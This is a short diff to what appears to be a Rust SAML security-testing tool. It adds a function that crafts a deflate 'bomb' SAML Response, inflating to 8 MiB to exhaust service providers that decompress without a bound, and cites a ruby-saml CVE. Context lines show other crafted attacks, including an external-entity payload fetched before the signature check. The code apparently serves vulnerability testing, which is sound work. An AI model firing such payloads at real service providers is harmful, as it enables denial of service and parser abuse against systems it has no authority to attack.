@@ -71,6 +71,22 @@ pub fn doctype_comment_differential(c: &Ctx<'_>) -> Result<Crafted, CraftError> 
     Ok(Crafted::of(xml).claiming(&c.forged))
 }
 
+/// Spaces the POST-binding bomb inflates to: far over any sane message (ruby-saml 1.18
+/// refuses over 250,000 bytes inflated), yet about 8 KiB to send and quick to refuse.
+const BOMB_SPACES: usize = 8 << 20;
+
+/// The golden Response (assertion signed), DEFLATE-compressed in the HTTP-POST binding,
+/// whose messages are the XML itself (SAML Bindings §3.5.4), padded to inflate to 8 MiB:
+/// an SP that inflates POST messages without a bound can be made to allocate and parse
+/// hundreds of MB by one request (ruby-saml CVE-2025-25293); as received, it is no XML.
+pub fn deflated_post_bomb(c: &Ctx<'_>) -> Result<Crafted, CraftError> {
+    let xml = message::build(&c.knobs(), Signing::Assertion, &c.spec())?;
+    Ok(Crafted {
+        deflate_padding: Some(BOMB_SPACES),
+        ..Crafted::of(xml)
+    })
+}
+
 /// The signed Response with an external entity (a loopback URL of the listener)
 /// declared and used in the NameID: an SP that resolves it fetches the URL while parsing,
 /// before any signature is checked.
